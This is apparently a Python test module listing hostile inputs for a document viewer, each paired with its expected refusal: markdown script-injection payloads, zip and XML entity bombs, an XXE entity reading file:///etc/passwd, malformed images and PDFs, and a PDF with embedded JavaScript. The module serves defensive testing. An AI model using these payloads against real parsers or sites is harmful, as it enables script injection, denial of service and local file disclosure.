"""Hostile contents, and how each ends: a sentence, or a bounded view."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image

from tests.runs.viewed import pdf, picture, workbook
from verification.adapters.viewing import TOO_MUCH

BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha">'
    + b"".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">'.encode() for n in range(12))
    + b"]>"
)

TRAP = "This workbook defines entities of its own."
_TOLD = "application/vnd.openxmlformats-officedocument.spreadsheetml"
STRINGS_TOLD = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    f'<Override PartName="/xl/workbook.xml" ContentType="{_TOLD}.sheet.main+xml"/>'
    f'<Override PartName="/xl/sharedStrings.xml" ContentType="{_TOLD}.sharedStrings+xml"/></Types>'
).encode()


@dataclass(frozen=True)
class Case:
    """`refusal` is how the sentence begins; with none, a view is told within its bounds.

    What may take too much is ended by its time, where the machine is not fast enough.
    """

    name: str
    ask: str
    make: Callable[[], bytes]
    refusal: str = ""
    may_take_too_much: bool = False


def png_of(width: int, height: int) -> bytes:
    """A picture that says it is so large, with hardly a pixel behind it."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0" * 1000)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def moving_gif(frames: int) -> bytes:
    content = io.BytesIO()
    pictures = [Image.new("RGB", (8, 8), (n % 256, n // 256, 0)) for n in range(frames)]
    pictures[0].save(content, "GIF", save_all=True, append_images=pictures[1:])
    return content.getvalue()


def archive(**changed: bytes) -> bytes:
    """A workbook with some of its parts replaced, or parts more."""
    names = {
        "sheet": "xl/worksheets/sheet1.xml",
        "book": "xl/workbook.xml",
        "strings": "xl/sharedStrings.xml",
        "types": "[Content_Types].xml",
    }
    parts = {names.get(name, name): content for name, content in changed.items()}
    content = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook())) as old, zipfile.ZipFile(content, "w") as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name), zipfile.ZIP_DEFLATED)
        for name, part in parts.items():
            new.writestr(name, part, zipfile.ZIP_DEFLATED)
    return content.getvalue()


def sheet(rows: bytes, before: bytes = b'<?xml version="1.0"?>') -> bytes:
    space = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return b'%s<worksheet xmlns="%s"><sheetData>%s</sheetData></worksheet>' % (before, space, rows)


def many_entries() -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as new:
        for n in range(4000):
            new.writestr(f"xl/workbook{n}.xml", b"")
    return content.getvalue()


def pdf_object(body: bytes, pages: bytes = b"<</Type/Pages/Kids[3 0 R]/Count 1>>") -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj" + pages + b"endobj\n"
        b"3 0 obj" + body + b"\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    )


def page(content: bytes = b"", box: bytes = b"0 0 300 400") -> bytes:
    return (
        b"<</Type/Page/Parent 2 0 R/MediaBox[" + box + b"]/Contents 4 0 R>>endobj\n4 0 obj"
        b"<</Length %d>>stream\n" % len(content) + content + b"\nendstream"
    )


MARKDOWN = [
    Case("a script", "markdown", lambda: b"<script>alert(1)</script>"),
    Case("a script in a paragraph", "markdown", lambda: b"a <script src=//e.example/x></script> b"),
    Case("a frame", "markdown", lambda: b'<iframe src="https://e.example"></iframe>'),
    Case("an svg with a handler", "markdown", lambda: b"<svg onload=alert(1)><script>1</script>"),
    Case("a handler", "markdown", lambda: b'<img src=x onerror="alert(1)">'),
    Case("a form", "markdown", lambda: b'<form action="//e.example"><input name=password>'),
    Case("a style", "markdown", lambda: b"<style>*{display:none}</style><b style=top:0>x</b>"),
    Case("a base and a refresh", "markdown", lambda: b'<base href=//e><meta http-equiv="refresh">'),
    Case("a link that runs", "markdown", lambda: b"[a](javascript:alert(1)) <javascript:alert(1)>"),
    Case("a link that runs, hidden", "markdown", lambda: b"[a](java&#x73;cript:alert(1))"),
    Case("a link that runs, with tabs", "markdown", lambda: b"[a](<java\tscript:alert(1)>)"),
    Case("a link of data", "markdown", lambda: b"[a](data:text/html;base64,PHNjcmlwdD4=)"),
    Case("a link in a reference", "markdown", lambda: b"[a]\n\n[a]: vbscript:msgbox"),
    Case("a link within", "markdown", lambda: b"[out](/p/x/runs/) [up](../cancel/) [id](#main)"),
    Case("an image elsewhere", "markdown", lambda: b"![a](https://e.example/p.png)"),
    Case("an image of data", "markdown", lambda: b"![a](data:image/svg+xml,<svg onload=alert(1)>)"),
    Case("a title that breaks out", "markdown", lambda: b"[a](https://e.example '\" onclick=x')"),
    Case("a fence that breaks out", "markdown", lambda: b'```"><script>alert(1)</script>\nx\n```'),
    Case("quotes within quotes", "markdown", lambda: b">" * 10_000 + b" deep"),
    Case("lists within lists", "markdown", lambda: b"".join(b" " * n + b"- a\n" for n in range(900))),
    Case("stars", "markdown", lambda: b"*a **b " * 20_000, may_take_too_much=True),
    Case("brackets", "markdown", lambda: b"[" * 60_000, may_take_too_much=True),
    Case("brackets and images", "markdown", lambda: b"![[]()" * 30_000, may_take_too_much=True),
    Case("backticks", "markdown", lambda: b"".join(b"`" * n + b" " for n in range(700))),
    Case("references", "markdown", lambda: b"".join(b"[a%d]: /x\n" % n for n in range(20_000)), may_take_too_much=True),
    Case("a wide table", "markdown", lambda: b"|a" * 5000 + b"|\n" + b"|-" * 5000 + b"|\n" + b"|" * 9999),
    Case("NUL and controls", "markdown", lambda: bytes(range(32)) + b" # x\0y"),
    Case("reordered text", "markdown", lambda: "[pay](https://e.example/\u202ex) a\u202eb\u200bc".encode()),
    Case("half of it binary", "markdown", lambda: b"# a\n" + bytes(range(256)), "This is no text."),
]  # fmt: skip

TABLES = [
    Case("a million columns", "table", lambda: b"," * 1_000_000 + b"\n1\n"),
    Case("a million rows", "table", lambda: b"a,b\n" + b"1,2\n" * 1_000_000),
    Case("one long cell", "table", lambda: b"a\n" + b"x" * 8_000_000),
    Case("quotes that never close", "table", lambda: b'a,b\n"' + b"x,\n" * 500_000),
    Case("nothing but quotes", "table", lambda: b'"' * 1_000_000),
    Case("NUL", "table", lambda: b"a,b\n\0,\0\n"),
    Case("wide characters", "table", lambda: "a;b\n1;2\n".encode("utf-16")),
    Case("wide characters, cut", "table", lambda: b"\xff\xfea", "This is no text"),
    Case("nothing", "table", lambda: b"", "It is empty."),
    Case("nothing but lines", "table", lambda: b"\n" * 100_000, "It is empty."),
    Case("reordered text", "table", lambda: "a,b\n\u202e1,\u200b2\n".encode()),
    Case("markup", "table", lambda: b"<script>,</td></table><script>\n<img onerror=x>,2\n"),
    Case("old line ends", "table", lambda: b"a,b\r1,2\r"),
    Case("a lone return", "table", lambda: b"a,b\n1\r2,3\n4,5\n"),
    Case("a broken workbook", "sheets", lambda: workbook()[:-300], "This workbook is broken."),
    Case("no workbook", "sheets", lambda: b"PK\x03\x04xl/workbook", "This workbook is broken."),
    Case("an empty archive", "sheets", lambda: b"PK\x05\x06" + b"\0" * 18, "This workbook is"),
    Case("many parts", "sheets", many_entries, "This workbook unpacks to more"),
    Case("a bomb", "sheets", lambda: archive(sheet=b"\0" * 200_000_000), "This workbook unpacks"),
    Case(
        "a bomb beside",
        "sheets",
        lambda: archive(**{"xl/media/a.bin": b"\0" * 90_000_000}),
        "This workbook unpacks to more",
    ),
    Case("entities", "sheets", lambda: archive(sheet=sheet(b"<row>&h;</row>", BOMB)), TRAP),
    Case("entities of strings", "sheets", lambda: archive(strings=BOMB + b"<sst>&h;</sst>", types=STRINGS_TOLD), TRAP),
    Case("entities of the book", "sheets", lambda: archive(book=BOMB + b"<workbook>&h;</workbook>"), TRAP),
    Case(
        "a file from the disk",
        "sheets",
        lambda: archive(
            sheet=sheet(
                b'<row r="1"><c t="inlineStr"><is><t>&x;</t></is></c></row>',
                b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
            )
        ),
        TRAP,
    ),
    Case("a far row", "sheets", lambda: archive(sheet=sheet(b'<row r="99999999999"><c r="A1"><v>1</v></c></row>'))),
    Case("a far column", "sheets", lambda: archive(sheet=sheet(b'<row r="1"><c r="XFD1"><v>1</v></c></row>'))),
    Case("no column at all", "sheets", lambda: archive(sheet=sheet(b'<row r="1"><c r="ZZZZZZZ1"><v>1</v></c></row>')), "This workbook"),
    Case("deep parts", "sheets", lambda: archive(sheet=sheet(b"<row>" * 200_000)), "This workbook is broken."),
    Case("a string that is not there", "sheets", lambda: archive(sheet=sheet(b'<row r="1"><c r="A1" t="s"><v>99999</v></c></row>')), "This workbook"),
    Case("a number without end", "sheets", lambda: archive(sheet=sheet(b'<row r="1"><c r="A1"><v>' + b"9" * 100_000 + b"</v></c></row>")), "This workbook is broken."),
    Case("many cells", "sheets", lambda: archive(sheet=sheet(b'<row r="1">' + b"<c><v>1</v></c>" * 400_000 + b"</row>")), "This workbook is broken.", may_take_too_much=True),
]  # fmt: skip

TREES = [
    Case("many levels", "tree", lambda: b"[" * 100_000, "It is nested too deeply"),
    Case("many levels, closed", "tree", lambda: b"[" * 100_000 + b"]" * 100_000, "It is nested too"),
    Case("many levels of objects", "tree", lambda: b'{"a":' * 100_000, "It is nested too deeply"),
    Case("levels within reading", "tree", lambda: b"[" * 800 + b"]" * 800),
    Case("huge numbers", "tree", lambda: b"[" + b"9" * 1_000_000 + b", 1e999999999, -0.0]"),
    Case("many values", "tree", lambda: b"[" + b"0," * 1_000_000 + b"0]"),
    Case("many keys", "tree", lambda: b"{" + b",".join(b'"a%d":0' % n for n in range(200_000)) + b"}"),
    Case("the same key", "tree", lambda: b"{" + b'"a":0,' * 100_000 + b'"a":1}'),
    Case("one long text", "tree", lambda: b'["' + b"x" * 8_000_000 + b'"]'),
    Case("half a character", "tree", lambda: b'["\\ud800", "\\u202e\\u0000"]'),
    Case("markup", "tree", lambda: b'{"<script>": "</li><img onerror=x>"}'),
    Case("no number", "tree", lambda: b"[NaN, Infinity]", "It is no JSON: NaN"),
    Case("cut short", "tree", lambda: b'{"a": [1, 2', "It is no JSON"),
    Case("nothing", "tree", lambda: b"", "It is no JSON"),
    Case("more after it", "tree", lambda: b"{} {}", "It is no JSON: Extra data"),
]  # fmt: skip

PICTURES = [
    Case("a huge head", "image", lambda: png_of(50_000, 50_000), "It has too many pixels"),
    Case("a head without end", "image", lambda: png_of(2**31 - 1, 2**31 - 1), "It has too many"),
    Case("a long thin one", "image", lambda: png_of(1, 39_000_000)),
    Case("no size", "image", lambda: png_of(0, 0), "This picture is broken."),
    Case("cut short", "image", lambda: picture(size=(900, 900))[:-200], "This picture is broken."),
    Case("a head alone", "image", lambda: b"\x89PNG\r\n\x1a\n", "This picture is broken."),
    Case("a photo cut short", "image", lambda: picture("JPEG", (500, 500))[:900], "This picture"),
    Case("a photo of nothing", "image", lambda: b"\xff\xd8\xff", "This picture is broken."),
    Case("thousands of frames", "image", lambda: moving_gif(3_000)),
    Case("a head of no frame", "image", lambda: b"GIF89a" + b"\xff" * 20, "This picture is broken."),
    Case("a web picture cut short", "image", lambda: picture("WEBP")[:30], "This picture is broken."),
    Case("a drawing", "image", lambda: b"<svg onload='alert(1)'/>", "This picture is broken."),
    Case("one that writes", "image", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n", "This picture is broken."),
]  # fmt: skip

PAGES = [
    Case("cut short", "pages", lambda: pdf()[:120], "This PDF is broken."),
    Case("a head alone", "pages", lambda: b"%PDF-1.7\n", "This PDF is broken."),
    Case("noise", "pages", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 400, "This PDF is broken."),
    Case("pages in a ring", "pages", lambda: pdf_object(b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>")),
    Case("a count without pages", "pages", lambda: pdf_object(b"null", b"<</Type/Pages/Count 99999999/Kids[3 0 R]>>"), "This PDF is broken."),
    Case("a count below nothing", "pages", lambda: pdf_object(page(), b"<</Type/Pages/Count -5/Kids[3 0 R]>>")),
    Case("a page as wide as the world", "pages", lambda: pdf_object(page(box=b"0 0 99999999 99999999"))),
    Case("a page as thin as nothing", "pages", lambda: pdf_object(page(box=b"0 0 0.0001 99999999"))),
    Case("a page of no size", "pages", lambda: pdf_object(page(box=b"0 0 0 0"))),
    Case("states without end", "pages", lambda: pdf_object(page(b"q " * 500_000))),
    Case("lines without end", "pages", lambda: pdf_object(page(b"0 0 m 300 400 l S\n" * 400_000)), TOO_MUCH),
    Case("a script", "pages", lambda: pdf_object(page() + b"/AA<</O<</S/JavaScript/JS(app.alert\\(1\\))>>>>")),
]  # fmt: skip

CASES = [*MARKDOWN, *TABLES, *TREES, *PICTURES, *PAGES]
